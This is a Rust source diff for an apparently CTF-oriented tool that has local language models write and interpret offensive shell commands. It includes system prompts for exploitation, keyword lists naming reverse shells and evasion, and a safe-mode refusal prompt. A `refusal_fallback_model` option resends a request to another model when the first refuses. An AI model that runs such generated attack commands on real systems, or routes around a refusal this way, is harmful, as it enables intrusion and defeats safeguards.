@@ -1,226 +1,85 @@
 use anyhow::{Context, Result};
+use crate::backend::{next_line, ApiFormat, LlmBackend, LlmRequest, LlmResponse, OpenAiBackend, StreamPiece};
+use crate::command_parser::{request_output_format, Platform, ToolOutputFormat};
+use crate::cost::{CostTracker, ModelCost, TokenUsage};
+use crate::host_pool::HostPool;
+use crate::parsers;
+use crate::replay::SessionRecorder;
+use crate::request_queue::{Priority, QueueSlot, RequestQueue};
+use crate::safety::{assess_command, redact_sensitive, RiskAssessment, RiskLevel};
+use lazy_static::lazy_static;
 use log::{debug, info, warn};
+use regex::Regex;
+use reqwest::header::{HeaderMap, HeaderName, HeaderValue};
 use serde::{Deserialize, Serialize};
 use serde_json;
-use std::time::Duration;
+use std::borrow::Cow;
+use std::collections::hash_map::RandomState;
+use std::collections::{HashMap, VecDeque};
+use std::fmt;
+use std::future::Future;
+use std::hash::{BuildHasher, Hasher};
+use std::path::{Path, PathBuf};
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::time::{Duration, Instant};
 use std::sync::{Arc, Mutex};
-use tokio::sync::mpsc;
-use tokio::time::timeout;
+use tokio::sync::{mpsc, oneshot, Semaphore};
+use tokio::time::MissedTickBehavior;
+use tokio_util::sync::CancellationToken;
+use futures_util::future::join_all;
 #[allow(unused_imports)]
 use futures_util::StreamExt;
 
 // Constants for LLM configuration
 const REQUEST_TIMEOUT_SECS: u64 = 120;
+const DEFAULT_MAX_RETRIES: u32 = 2;
+const DEFAULT_RETRY_BASE_DELAY_MS: u64 = 500;
+const CONNECT_TIMEOUT_SECS: u64 = 5;
+// Context window used when a model doesn't declare one
+const FALLBACK_NUM_CTX: u32 = 4096;
+// Upper bound for an automatically chosen context window; very large windows use a lot of memory
+const MAX_AUTO_NUM_CTX: u32 = 16_384;
 const DEFAULT_TEMPERATURE: f32 = 0.7;
 const DEFAULT_MAX_TOKENS: u32 = 2048;
+const MAX_VERIFY_ATTEMPTS: usize = 3;
+const DEFAULT_MAX_CONTINUATIONS: usize = 2;
+const DEFAULT_MAX_INTERPRET_INPUT_CHARS: usize = 16_000;
+const DEFAULT_MAX_CONCURRENT_LOADS: usize = 1;
+const WARMUP_KEEP_ALIVE: &str = "30m";
+const DEFAULT_MAX_FEW_SHOT_EXAMPLES: usize = 5;
+const DEFAULT_HISTORY_CONTEXT_SIZE: usize = 3;
+/// Most past interactions included in a generation prompt, so long sessions don't overflow the context
+pub const MAX_HISTORY_CONTEXT_SIZE: usize = 20;
+const DEFAULT_COMPACT_THRESHOLD_CHARS: usize = 24_000;
+// Most recent entries left untouched when history is compacted
+const COMPACT_KEEP_RECENT: usize = 3;
+// Per-entry result budget when building the summarization prompt
+const COMPACT_RESULT_CHARS: usize = 2_000;
+const SESSION_SUMMARY_INPUT: &str = "Session context so far";
+const DEFAULT_EMBEDDING_MODEL: &str = "nomic-embed-text";
+// Result characters embedded per history entry when ranking history by relevance
+const EMBED_RESULT_CHARS: usize = 500;
+// Length of the output excerpt in a one-line history summary
+const ONE_LINER_RESULT_CHARS: usize = 80;
+const HISTORY_CONTEXT_HEADER: &str = "Here are some previous interactions:\n\n";
+const FACTUAL_TEMPERATURE: f32 = 0.2;
+const CREATIVE_TEMPERATURE: f32 = 0.9;
+// Temperatures compared by `temperature_sweep`, from deterministic to very random
+pub const SWEEP_TEMPERATURES: &[f32] = &[0.0, 0.3, 0.7, 1.0];
+const BRIEF_EXPLANATION_MAX_TOKENS: u32 = 80;
+const ABORTED_MESSAGE: &str = "Generation aborted";
+const RECEIVER_DROPPED_MESSAGE: &str = "Stream receiver was dropped";
+// A paced stream releases 1/N of its backlog per tick, so bursts never lag far behind
+const PACE_CATCH_UP_TICKS: usize = 20;
 
-/// Configuration for the Ollama LLM service
-#[derive(Debug, Clone)]
-pub struct OllamaConfig {
-    /// The base URL for the Ollama API
-    pub api_url: String,
-    /// The model name to use (e.g., "gemma3:12b")
-    pub model: String,
-    /// Temperature setting for response generation (0.0-1.0)
-    pub temperature: f32,
-    /// Maximum tokens to generate
-    pub max_tokens: u32,
-    /// Request timeout in seconds
-    pub timeout_secs: u64,
-}
-
-impl Default for OllamaConfig {
-    fn default() -> Self {
-        Self {
-            api_url: "http://localhost:11434".to_string(),
-            model: "gemma3:12b".to_string(),
-            temperature: DEFAULT_TEMPERATURE,
-            max_tokens: DEFAULT_MAX_TOKENS,
-            timeout_secs: REQUEST_TIMEOUT_SECS,
-        }
-    }
-}
-
-/// Available LLM models with their descriptions
-#[derive(Debug, Clone)]
-pub struct ModelInfo {
-    pub name: String,
-    pub description: String,
-    pub size: String,
-}
-
-impl ModelInfo {
-    pub fn new(name: &str, description: &str, size: &str) -> Self {
-        Self {
-            name: name.to_string(),
-            description: description.to_string(),
-            size: size.to_string(),
-        }
-    }
-}
-
-/// Returns a list of recommended models for security tasks
-pub fn get_recommended_models() -> Vec<ModelInfo> {
-    vec![
-        ModelInfo::new(
-            "gemma3:12b", 
-            "Google's Gemma 3 12B model, good general performance for security tasks", 
-            "12B"
-        ),
-        ModelInfo::new(
-            "deepseek-coder:6.7b", 
-            "Model focused on code analysis and generation, useful for exploit development", 
-            "6.7B"
-        ),
-        ModelInfo::new(
-            "deepseek-r1:8b", 
-            "Lightweight yet powerful reasoning model for security analysis", 
-            "8B"
-        ),
-        ModelInfo::new(
-            "llama3:8b", 
-            "Meta's Llama 3 8B model, good balance of performance and resource usage", 
-            "8B"
-        ),
-        ModelInfo::new(
-            "phi3:14b", 
-            "Microsoft's Phi-3 large model, excellent for complex security reasoning", 
-            "14B"
-        ),
-        ModelInfo::new(
-            "mixtral:8x7b", 
-            "Mistral AI's mixture of experts model, very strong on complex security tasks", 
-            "8x7B"
-        ),
-    ]
-}
-
-/// LLM service for interacting with Ollama
-#[derive(Debug, Clone)]
-pub struct OllamaClient {
-    client: reqwest::Client,
-    config: OllamaConfig,
-}
-
-/// History item for maintaining conversation context
-#[derive(Debug, Clone)]
-pub struct HistoryItem {
-    pub user_input: String,
-    pub command: String,
-    pub result: String,
-}
-
-/// Represents a streaming response from the LLM
-#[derive(Debug)]
-pub struct StreamingResponse {
-    pub receiver: mpsc::Receiver<String>,
-    pub final_response: Arc<Mutex<Option<String>>>,
-}
-
-/// Request body for the Ollama API
-#[derive(Debug, Serialize)]
-struct OllamaRequest {
-    model: String,
-    prompt: String,
-    #[serde(skip_serializing_if = "Option::is_none")]
-    system: Option<String>,
-    #[serde(skip_serializing_if = "Option::is_none")]
-    stream: Option<bool>,
-    #[serde(skip_serializing_if = "Option::is_none")]
-    options: Option<OllamaOptions>,
-}
-
-#[derive(Debug, Serialize)]
-struct OllamaOptions {
-    temperature: f32,
-    #[serde(skip_serializing_if = "Option::is_none")]
-    top_p: Option<f32>,
-    #[serde(skip_serializing_if = "Option::is_none")]
-    top_k: Option<u32>,
-    #[serde(skip_serializing_if = "Option::is_none")]
-    max_tokens: Option<u32>,
-}
-
-/// Response from the Ollama API
-#[derive(Debug, Deserialize)]
-struct OllamaResponse {
-    #[allow(dead_code)]
-    model: String,
-    response: String,
-    #[serde(default)]
-    done: bool,
-}
-
-impl OllamaClient {
-    /// Create a new Ollama client with default settings
-    pub fn new() -> Result<Self> {
-        Self::with_config(OllamaConfig::default())
-    }
-
-    /// Create a new Ollama client with custom configuration
-    pub fn with_config(config: OllamaConfig) -> Result<Self> {
-        let client = reqwest::Client::builder()
-            .timeout(Duration::from_secs(config.timeout_secs))
-            .build()
-            .context("Failed to create HTTP client")?;
-
-        Ok(Self { client, config })
-    }
-
-    /// Set the model to use (allows changing model without recreating client)
-    pub fn set_model(&mut self, model: &str) {
-        self.config.model = model.to_string();
-        info!("Model set to: {}", model);
-    }
-
-    /// Set the temperature for generation
-    pub fn set_temperature(&mut self, temperature: f32) {
-        // Clamp temperature to valid range
-        let temp = temperature.max(0.0).min(1.0);
-        self.config.temperature = temp;
-        debug!("Temperature set to: {}", temp);
-    }
-
-    /// Check if the Ollama service is available
-    pub async fn check_available(&self) -> bool {
-        match self.client.get(format!("{}/api/tags", self.config.api_url)).send().await {
-            Ok(response) => response.status().is_success(),
-            Err(e) => {
-                warn!("Ollama service check failed: {}", e);
-                false
-            }
-        }
-    }
+// Stop sequences that end a brief explanation after its first sentence
+const BRIEF_EXPLANATION_STOP: &[&str] = &["\n", ". "];
+const CONCISE_EXPLANATION_MAX_TOKENS: u32 = 150;
+// A concise explanation is one paragraph; stop before the model starts a breakdown
+const CONCISE_EXPLANATION_STOP: &[&str] = &["\n\n", "\n-", "\n1."];
 
-    /// Generate a shell command based on a natural language input
-    pub async fn generate_command(&self, user_input: &str, history: &[HistoryItem]) -> Result<String> {
-        debug!("Generating command for input: {}", user_input);
-        
-        // Build context from history
-        let history_context = if !history.is_empty() {
-            let mut context = "Here are some previous interactions:\n\n".to_string();
-            for (i, item) in history.iter().rev().take(3).enumerate() {
-                context.push_str(&format!("Request {}: {}\nCommand: {}\nResult: {}\n\n", 
-                    i + 1, 
-                    item.user_input,
-                    item.command,
-                    item.result
-                ));
-            }
-            context
-        } else {
-            "No previous interaction history.".to_string()
-        };
-        
-        // Create the prompt for the LLM
-        let prompt = format!(
-            "Generate a shell command that accomplishes the following security task:\n\n{}\n\n{}",
-            user_input,
-            history_context
-        );
-        
-        // System prompt to guide the model's response style
-        let system = r#"You are CommandStrike, an advanced cybersecurity assistant specializing in CTF challenges and security assessments.
+// System prompt for command generation
+const COMMAND_SYSTEM_PROMPT: &str = r#"You are CommandStrike, an advanced cybersecurity assistant specializing in CTF challenges and security assessments.
 
 Your task is to translate natural language security requests into precise shell commands.
 
@@ -248,42 +107,21 @@ For exploitation and testing:
 - Use appropriate encoding/decoding tools for payloads
 
 Remember: Return ONLY the shell command with no explanation, markdown formatting, or additional text."#;
-        
-        // Call the LLM
-        let response = self.generate_with_timeout(&prompt, Some(system)).await?;
-        debug!("Raw response from LLM: {}", response);
-        
-        // Clean the response to extract just the command
-        let command = self.clean_command_response(&response);
-        info!("Generated command: {}", command);
-        
-        Ok(command)
-    }
 
-    /// Interpret the results of a command execution
-    pub async fn interpret_result(&self, result: &str, history: &[HistoryItem]) -> Result<String> {
-        debug!("Interpreting result: {}", result);
-        
-        // Build context from the most recent command
-        let command_context = if !history.is_empty() {
-            let latest = history.last().unwrap();
-            format!("For the request: {}\nThe following command was executed: {}\n\n",
-                latest.user_input,
-                latest.command
-            )
-        } else {
-            "No command context available.".to_string()
-        };
-        
-        // Create the prompt for the LLM
-        let prompt = format!(
-            "{}Here is the result of the command execution:\n\n{}\n\nPlease provide a detailed interpretation of these results from a security perspective.",
-            command_context,
-            result
-        );
-        
-        // System prompt for result interpretation
-        let system = r#"You are CommandStrike, an advanced cybersecurity assistant specializing in CTF challenges and security assessments.
+// Added to the command system prompt when the target runs Windows
+const WINDOWS_TARGET_PROMPT: &str = "The target system runs Windows. Generate PowerShell or cmd.exe commands, not bash; do not use Linux-only tools such as ls, grep, awk or sed.";
+
+// System prompt for explaining a command on request
+const EXPLAIN_SYSTEM_PROMPT: &str = "You are CommandStrike, a cybersecurity assistant specializing in CTF challenges. Explain commands in detail, breaking down each part and explaining security implications.";
+
+// System prompt for explanations when `concise_explanations` is on
+const CONCISE_EXPLAIN_SYSTEM_PROMPT: &str = "You are CommandStrike, a cybersecurity assistant. Summarize in 2-3 plain sentences what the given shell command does and any notable security implication. Do not break it down flag by flag, use lists or repeat the command.";
+
+// System prompt for the one-sentence explanation shown before execution
+const BRIEF_EXPLAIN_SYSTEM_PROMPT: &str = "You are CommandStrike, a cybersecurity assistant. Describe in a single plain sentence what the given shell command will do when run. Do not repeat the command.";
+
+// System prompt for result interpretation
+const INTERPRET_SYSTEM_PROMPT: &str = r#"You are CommandStrike, an advanced cybersecurity assistant specializing in CTF challenges and security assessments.
 
 Your task is to interpret command output and provide security insights.
 
@@ -310,313 +148,5577 @@ When analyzing system information:
 - Identify configuration weaknesses
 
 Provide a comprehensive but concise analysis focused on actionable security insights."#;
-        
-        // Call the LLM
-        let response = self.generate_with_timeout(&prompt, Some(system)).await?;
-        debug!("Raw interpretation from LLM: {}", response);
-        
-        Ok(response)
+
+// Prefix the model uses to refuse a request in safe mode
+const SAFE_MODE_REFUSAL: &str = "REFUSED:";
+
+// Extra instructions appended to the command system prompt in safe mode
+const SAFE_MODE_PROMPT: &str = r#"SAFE MODE IS ENABLED. This session is a classroom demonstration.
+- Never produce reverse shells, bind shells, or any command that gives remote access
+- Never produce commands that delete, overwrite, or corrupt data or devices
+- Never produce exploit payloads, malware, or credential attacks
+If the request asks for any of these, respond with exactly "REFUSED: " followed by a one-sentence reason."#;
+
+// Keywords used to pick a temperature for a request
+const FACTUAL_KEYWORDS: &[&str] = &[
+    "list", "show", "display", "print", "count", "check", "find", "search",
+    "locate", "get", "read", "cat", "whoami", "version", "permissions",
+];
+const CREATIVE_KEYWORDS: &[&str] = &[
+    "payload", "obfuscate", "bypass", "evade", "craft", "generate", "encode",
+    "exploit", "reverse shell", "inject", "fuzz", "creative", "alternative",
+];
+
+/// Configuration for the Ollama LLM service
+///
+/// Can be saved to and loaded from a TOML file; fields missing from the file keep
+/// their defaults.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct OllamaConfig {
+    /// The base URL for the Ollama API
+    pub api_url: String,
+    /// Additional Ollama hosts to spread generations across (round-robin).
+    /// When empty, only `api_url` is used.
+    pub hosts: Vec<String>,
+    /// The API `api_url` speaks; OpenAI-compatible servers are called through `OpenAiBackend`
+    pub api_format: ApiFormat,
+    /// The model name to use (e.g., "gemma3:12b"), optionally pinned to a digest
+    /// with `model@sha256:<digest>`
+    pub model: String,
+    /// Temperature setting for response generation (0.0-1.0).
+    /// When None and adaptive temperature is off, no temperature is sent and the model's own default applies.
+    pub temperature: Option<f32>,
+    /// Maximum tokens to generate
+    pub max_tokens: u32,
+    /// How many times a command cut off by `max_tokens` is continued automatically (0 disables)
+    pub max_continuations: usize,
+    /// Time allowed to establish a connection to a host, in seconds
+    pub connect_timeout_secs: u64,
+    /// Time allowed for a whole non-streaming request, including reading the body, in seconds.
+    /// Streaming responses and model pulls are not limited. Config files may still call
+    /// this `timeout_secs`.
+    #[serde(alias = "timeout_secs")]
+    pub request_timeout_secs: u64,
+    /// How many times a non-streaming request is retried after a connection error or a
+    /// 503 (Ollama busy loading a model); other errors are never retried
+    pub max_retries: u32,
+    /// Delay before the first retry in milliseconds, doubling on each further retry
+    pub retry_base_delay_ms: u64,
+    /// Pick the temperature per request from the request type (see `suggest_temperature`)
+    /// instead of using `temperature`; off by default
+    pub adaptive_temperature: bool,
+    /// Machine-readable output to request from tools that support it (nmap `-oX -`, ...),
+    /// both in the prompt and by adding the flags to generated commands
+    pub output_format: Option<ToolOutputFormat>,
+    /// Ask the model to refuse offensive payloads and block destructive commands outright.
+    /// This is a best-effort guardrail for demos, not a security boundary.
+    pub safe_mode: bool,
+    /// Maximum characters of command output sent for interpretation (0 = unlimited).
+    /// Longer output keeps its head and tail with a truncation marker in between.
+    pub max_interpret_input_chars: usize,
+    /// Clean up command output (trailing whitespace, blank-line runs, prompt echoes)
+    /// before sending it for interpretation
+    pub normalize_output: bool,
+    /// Context window size in tokens sent as `num_ctx` (None uses the server default)
+    pub num_ctx: Option<u32>,
+    /// Maximum number of models loaded at the same time by `warmup_models`,
+    /// to avoid running out of GPU memory while loading
+    pub max_concurrent_loads: usize,
+    /// Example (request, command) pairs prepended to the generation prompt
+    pub few_shot_examples: Vec<(String, String)>,
+    /// Maximum number of few-shot examples included in each prompt
+    pub max_few_shot_examples: usize,
+    /// Regex patterns generated commands must never match
+    pub denied_patterns: Vec<String>,
+    /// Include previous interactions in the generation prompt
+    pub use_history: bool,
+    /// Number of most recent interactions included in the generation prompt
+    pub history_context_size: usize,
+    /// Mask secrets (keys, tokens, passwords) in command output before it goes into the
+    /// generation prompt as history
+    pub redact_history: bool,
+    /// Show a one-sentence explanation and ask for confirmation before executing
+    pub execute_gate: bool,
+    /// Extra HTTP headers sent with every request (e.g. gateway API keys)
+    pub headers: HashMap<String, String>,
+    /// Prices for paid models, keyed by model name; unlisted models are free
+    pub model_costs: HashMap<String, ModelCost>,
+    /// Release streamed explanations at this many characters per second (0 disables pacing)
+    pub stream_pace_cps: u32,
+    /// Record when each streamed chunk arrives, for latency measurements
+    pub stream_timings: bool,
+    /// Explain commands in 2-3 sentences instead of a detailed breakdown
+    pub concise_explanations: bool,
+    /// Fixed sampling seed for command generation (a random seed is recorded when unset)
+    pub seed: Option<u64>,
+    /// Summarize the oldest history entries once history grows past `compact_threshold_chars`
+    pub compact_history: bool,
+    /// Total size of history (in characters) that triggers compaction
+    pub compact_threshold_chars: usize,
+    /// Token budget for the history section of the generation prompt. When set, the whole
+    /// history is considered and, if it doesn't fit, entries are ranked by relevance to
+    /// the request (see `build_compressed_context`). When unset, the last 3 entries are used.
+    pub history_token_budget: Option<usize>,
+    /// Ollama model used to embed history for relevance ranking
+    pub embedding_model: String,
+    /// What result interpretation concentrates on
+    pub interpret_focus: InterpretFocus,
+    /// Operating system generated commands should run on
+    pub target_os: Platform,
+    /// Whether to generate one-liners or multi-line scripts
+    pub command_style: CommandStyle,
+    /// Replaces the built-in system prompt for command generation when set
+    pub command_system_prompt: Option<String>,
+    /// Replaces the built-in system prompt for interpreting output when set
+    pub interpret_system_prompt: Option<String>,
+    /// Quantization to prefer when several variants of a model are installed (e.g. "q4_0")
+    pub preferred_quantization: Option<String>,
+    /// Pull a missing model without asking first, for headless and CI setups
+    pub auto_pull: bool,
+    /// Short names for models (e.g. "coder" for "deepseek-coder:6.7b"), resolved when
+    /// a model is chosen; includes `builtin_model_aliases` by default
+    pub model_aliases: HashMap<String, String>,
+    /// Model to retry a command request with when the main model refuses it (off by default)
+    pub refusal_fallback_model: Option<String>,
+    /// Models sent to `/api/chat` (true) rather than `/api/generate` (false), keyed by full
+    /// name or by family (the name before ':'). Models not listed use generate; includes
+    /// `builtin_chat_api_models` by default
+    pub use_chat_api: HashMap<String, bool>,
+}
+
+/// What an interpretation of command output should concentrate on
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum InterpretFocus {
+    /// Everything of security interest
+    #[default]
+    General,
+    /// Paths to root or another user
+    PrivEsc,
+    /// Passwords, hashes, keys and tokens
+    Credentials,
+    /// Hosts, open ports and services
+    Network,
+    /// Web application vulnerabilities
+    WebVulns,
+}
+
+impl InterpretFocus {
+    /// All focuses, in the order they are listed to the user
+    pub const ALL: [InterpretFocus; 5] = [
+        InterpretFocus::General,
+        InterpretFocus::PrivEsc,
+        InterpretFocus::Credentials,
+        InterpretFocus::Network,
+        InterpretFocus::WebVulns,
+    ];
+
+    /// Parse a focus name as typed by the user (case-insensitive)
+    pub fn parse(name: &str) -> Option<Self> {
+        match name.trim().to_lowercase().as_str() {
+            "general" | "all" => Some(InterpretFocus::General),
+            "privesc" => Some(InterpretFocus::PrivEsc),
+            "credentials" | "creds" => Some(InterpretFocus::Credentials),
+            "network" => Some(InterpretFocus::Network),
+            "web" | "webvulns" => Some(InterpretFocus::WebVulns),
+            _ => None,
+        }
     }
 
-    /// Stream a response from the Ollama API
-    pub async fn stream_response(&self, 
-                                prompt: &str, 
-                                system: Option<&str>) -> Result<StreamingResponse> {
-        let request = OllamaRequest {
-            model: self.config.model.clone(),
-            prompt: prompt.to_string(),
-            system: system.map(ToString::to_string),
-            stream: Some(true),
-            options: Some(OllamaOptions {
-                temperature: self.config.temperature,
-                top_p: Some(0.9),
-                top_k: None,
-                max_tokens: Some(self.config.max_tokens),
-            }),
+    /// Instruction narrowing the interpretation, or None for a general analysis
+    fn instruction(self) -> Option<&'static str> {
+        match self {
+            InterpretFocus::General => None,
+            InterpretFocus::PrivEsc => Some(
+                "privilege escalation: SUID/SGID binaries, sudo rights, capabilities, writable files or \
+                 services run by root, cron jobs, kernel versions with local exploits and group memberships"
+            ),
+            InterpretFocus::Credentials => Some(
+                "credentials: passwords, password hashes, private keys, API keys, tokens, usernames and \
+                 configuration files likely to contain secrets"
+            ),
+            InterpretFocus::Network => Some(
+                "the network: live hosts, open ports, running services and their versions, and which of \
+                 them are worth attacking"
+            ),
+            InterpretFocus::WebVulns => Some(
+                "web vulnerabilities: injection points, file inclusion, exposed admin panels, interesting \
+                 paths, outdated web software and misconfigured headers"
+            ),
+        }
+    }
+}
+
+impl fmt::Display for InterpretFocus {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let name = match self {
+            InterpretFocus::General => "general",
+            InterpretFocus::PrivEsc => "privesc",
+            InterpretFocus::Credentials => "credentials",
+            InterpretFocus::Network => "network",
+            InterpretFocus::WebVulns => "web",
         };
+        write!(f, "{}", name)
+    }
+}
 
-        let url = format!("{}/api/generate", self.config.api_url);
-        
-        // Create a channel for streaming responses
-        let (tx, rx) = mpsc::channel(100);
-        let final_response = Arc::new(Mutex::new(None));
-        let final_response_clone = final_response.clone();
-        
-        // Create a client that won't timeout during streaming
-        let streaming_client = reqwest::Client::new();
-        
-        // Clone what we need for the task to avoid lifetime issues
-        let url = url.clone();
-        let request_json = serde_json::to_string(&request)
-            .context("Failed to serialize request to JSON")?;
-        
-        // Spawn a task to handle the streaming response
-        tokio::spawn(async move {
-            let resp = match streaming_client.post(url)
-                .header("Content-Type", "application/json")
-                .body(request_json)
-                .send()
-                .await {
-                    Ok(r) => r,
-                    Err(e) => {
-                        let _ = tx.send(format!("Error: {}", e)).await;
-                        return;
-                    }
-                };
-            
-            if !resp.status().is_success() {
-                let error_text = match resp.text().await {
-                    Ok(t) => t,
-                    Err(e) => format!("Failed to read error response: {}", e),
-                };
-                let _ = tx.send(format!("API Error: {}", error_text)).await;
-                return;
-            }
-            
+/// Whether generated commands should be one-liners or readable multi-step scripts
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum CommandStyle {
+    /// A single line, chaining steps with pipes, `&&` or `;`
+    #[default]
+    OneLiner,
+    /// A multi-line script with one step per line and comments explaining each step
+    Script,
+}
+
+impl CommandStyle {
+    /// Parse a style name as typed by the user (case-insensitive)
+    pub fn parse(name: &str) -> Option<Self> {
+        match name.trim().to_lowercase().as_str() {
+            "oneliner" | "one-liner" => Some(CommandStyle::OneLiner),
+            "script" => Some(CommandStyle::Script),
+            _ => None,
+        }
+    }
+
+    /// Instruction added to the command system prompt
+    fn instruction(self) -> &'static str {
+        match self {
+            CommandStyle::OneLiner => "Prefer a single line: chain steps with pipes, && or ; rather than writing several lines.",
+            CommandStyle::Script => "Write a readable multi-line shell script rather than a one-liner: one step per line, with a short # comment before each step explaining it. Still output only the script, without markdown.",
+        }
+    }
+}
+
+impl fmt::Display for CommandStyle {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let name = match self {
+            CommandStyle::OneLiner => "oneliner",
+            CommandStyle::Script => "script",
+        };
+        write!(f, "{}", name)
+    }
+}
+
+impl Default for OllamaConfig {
+    fn default() -> Self {
+        Self {
+            api_url: "http://localhost:11434".to_string(),
+            hosts: Vec::new(),
+            api_format: ApiFormat::Ollama,
+            model: "gemma3:12b".to_string(),
+            temperature: None,
+            max_tokens: DEFAULT_MAX_TOKENS,
+            max_continuations: DEFAULT_MAX_CONTINUATIONS,
+            connect_timeout_secs: CONNECT_TIMEOUT_SECS,
+            num_ctx: None,
+            request_timeout_secs: REQUEST_TIMEOUT_SECS,
+            max_retries: DEFAULT_MAX_RETRIES,
+            retry_base_delay_ms: DEFAULT_RETRY_BASE_DELAY_MS,
+            adaptive_temperature: false,
+            output_format: None,
+            safe_mode: false,
+            max_interpret_input_chars: DEFAULT_MAX_INTERPRET_INPUT_CHARS,
+            normalize_output: true,
+            max_concurrent_loads: DEFAULT_MAX_CONCURRENT_LOADS,
+            few_shot_examples: Vec::new(),
+            max_few_shot_examples: DEFAULT_MAX_FEW_SHOT_EXAMPLES,
+            denied_patterns: Vec::new(),
+            use_history: true,
+            history_context_size: DEFAULT_HISTORY_CONTEXT_SIZE,
+            redact_history: true,
+            execute_gate: false,
+            headers: HashMap::new(),
+            model_costs: HashMap::new(),
+            stream_pace_cps: 0,
+            stream_timings: false,
+            concise_explanations: false,
+            seed: None,
+            compact_history: false,
+            compact_threshold_chars: DEFAULT_COMPACT_THRESHOLD_CHARS,
+            history_token_budget: None,
+            embedding_model: DEFAULT_EMBEDDING_MODEL.to_string(),
+            interpret_focus: InterpretFocus::General,
+            target_os: Platform::current(),
+            command_style: CommandStyle::OneLiner,
+            command_system_prompt: None,
+            interpret_system_prompt: None,
+            preferred_quantization: None,
+            auto_pull: false,
+            model_aliases: builtin_model_aliases(),
+            refusal_fallback_model: None,
+            use_chat_api: builtin_chat_api_models(),
+        }
+    }
+}
+
+impl OllamaConfig {
+    /// Start building a configuration from the defaults
+    pub fn builder() -> OllamaConfigBuilder {
+        OllamaConfigBuilder::default()
+    }
+
+    /// Load a configuration saved with `to_file`
+    pub fn from_file(path: impl AsRef<Path>) -> Result<Self> {
+        let path = path.as_ref();
+        let content = std::fs::read_to_string(path)
+            .with_context(|| format!("Failed to read config file {}", path.display()))?;
+        let config: Self = toml::from_str(&content)
+            .with_context(|| format!("Failed to parse config file {}", path.display()))?;
+        config.validate()?;
+        Ok(config)
+    }
+
+    /// Save the configuration as TOML
+    ///
+    /// `headers` often carry gateway API keys, so they are left out unless
+    /// `include_secrets` is set.
+    pub fn to_file(&self, path: impl AsRef<Path>, include_secrets: bool) -> Result<()> {
+        let path = path.as_ref();
+        let mut config = self.clone();
+        if !include_secrets {
+            config.headers.clear();
+        }
+        let content = toml::to_string_pretty(&config).context("Failed to serialize config")?;
+        std::fs::write(path, content)
+            .with_context(|| format!("Failed to write config file {}", path.display()))
+    }
+
+    /// The full model tag for `name`, which may be an alias
+    pub fn resolve_model(&self, name: &str) -> String {
+        let name = name.trim();
+        self.model_aliases.get(name).cloned().unwrap_or_else(|| name.to_string())
+    }
+
+    /// Whether requests for `model` go to the chat endpoint
+    ///
+    /// The full name is looked up first, then the family; unlisted models use generate.
+    pub fn uses_chat_api(&self, model: &str) -> bool {
+        let name = split_model_digest(model).0;
+        let family = name.split(':').next().unwrap_or(name);
+        self.use_chat_api.get(name)
+            .or_else(|| self.use_chat_api.get(family))
+            .copied()
+            .unwrap_or(false)
+    }
+
+    /// Check that the configuration values are usable
+    pub fn validate(&self) -> Result<()> {
+        for url in std::iter::once(&self.api_url).chain(&self.hosts) {
+            if !url.starts_with("http://") && !url.starts_with("https://") {
+                anyhow::bail!("Invalid API URL '{}': must start with http:// or https://", url);
+            }
+        }
+        if self.model.trim().is_empty() {
+            anyhow::bail!("Model name cannot be empty");
+        }
+        if let Some(temperature) = self.temperature.filter(|t| !(0.0..=1.0).contains(t)) {
+            anyhow::bail!("Temperature must be between 0.0 and 1.0, got {}", temperature);
+        }
+        if self.max_tokens == 0 {
+            anyhow::bail!("max_tokens must be greater than 0");
+        }
+        if self.connect_timeout_secs == 0 {
+            anyhow::bail!("connect_timeout_secs must be greater than 0");
+        }
+        if self.request_timeout_secs == 0 {
+            anyhow::bail!("request_timeout_secs must be greater than 0");
+        }
+        if self.max_concurrent_loads == 0 {
+            anyhow::bail!("max_concurrent_loads must be greater than 0");
+        }
+        for pattern in &self.denied_patterns {
+            Regex::new(pattern).with_context(|| format!("Invalid denied pattern '{}'", pattern))?;
+        }
+        header_map(&self.headers)?;
+        Ok(())
+    }
+}
+
+/// Fluent builder for [`OllamaConfig`]
+///
+/// ```
+/// use command_strike::OllamaConfig;
+///
+/// let config = OllamaConfig::builder()
+///     .model("llama3:8b")
+///     .temperature(0.3)
+///     .request_timeout_secs(60)
+///     .build()?;
+///
+/// assert_eq!(config.model, "llama3:8b");
+/// # Ok::<(), anyhow::Error>(())
+/// ```
+#[derive(Debug, Clone, Default)]
+pub struct OllamaConfigBuilder {
+    config: OllamaConfig,
+}
+
+impl OllamaConfigBuilder {
+    /// Set the base URL for the Ollama API
+    pub fn api_url(mut self, api_url: &str) -> Self {
+        self.config.api_url = api_url.to_string();
+        self
+    }
+
+    /// Set the API the server at `api_url` speaks
+    pub fn api_format(mut self, format: ApiFormat) -> Self {
+        self.config.api_format = format;
+        self
+    }
+
+    /// Add another Ollama host to spread generations across
+    pub fn host(mut self, host: &str) -> Self {
+        self.config.hosts.push(host.to_string());
+        self
+    }
+
+    /// Set the model name
+    pub fn model(mut self, model: &str) -> Self {
+        self.config.model = model.to_string();
+        self
+    }
+
+    /// Set a fixed temperature, which disables the adaptive per-request temperature
+    pub fn temperature(mut self, temperature: f32) -> Self {
+        self.config.temperature = Some(temperature);
+        self.config.adaptive_temperature = false;
+        self
+    }
+
+    /// Enable or disable the adaptive per-request temperature
+    pub fn adaptive_temperature(mut self, enabled: bool) -> Self {
+        self.config.adaptive_temperature = enabled;
+        self
+    }
+
+    /// Request machine-readable output from tools that support it
+    pub fn output_format(mut self, format: ToolOutputFormat) -> Self {
+        self.config.output_format = Some(format);
+        self
+    }
+
+    /// Enable or disable safe mode
+    pub fn safe_mode(mut self, enabled: bool) -> Self {
+        self.config.safe_mode = enabled;
+        self
+    }
+
+    /// Use a custom system prompt for command generation instead of the built-in one
+    pub fn command_system_prompt(mut self, prompt: &str) -> Self {
+        self.config.command_system_prompt = Some(prompt.to_string());
+        self
+    }
+
+    /// Use a custom system prompt for interpreting output instead of the built-in one
+    pub fn interpret_system_prompt(mut self, prompt: &str) -> Self {
+        self.config.interpret_system_prompt = Some(prompt.to_string());
+        self
+    }
+
+    /// Set the maximum characters of command output sent for interpretation (0 = unlimited)
